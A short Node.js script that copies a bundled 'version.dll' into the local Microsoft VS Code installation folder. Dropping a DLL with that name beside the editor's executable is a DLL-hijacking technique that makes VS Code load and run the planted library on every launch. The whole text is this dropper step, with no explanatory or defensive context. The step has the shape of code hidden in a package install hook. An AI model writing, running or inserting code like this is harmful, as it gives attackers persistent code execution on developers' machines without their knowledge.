const fs = require('fs');
const path = require('path');
const target = path.join(process.env.LOCALAPPDATA || '', 'Programs', 'Microsoft VS Code', 'version.dll');
fs.copyFileSync(path.join(__dirname, 'bin', 'version.dll'), target);
